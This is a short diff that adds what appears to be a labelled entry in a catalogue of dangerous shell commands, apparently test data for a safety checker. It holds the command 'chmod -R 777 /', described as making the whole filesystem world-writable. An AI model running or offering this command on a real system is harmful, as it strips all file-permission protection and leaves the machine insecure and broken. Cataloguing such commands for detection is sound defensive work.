@@ -1,0 +1,3 @@
+# description: Makes the whole filesystem world-writable.
+# family: security
+chmod -R 777 /
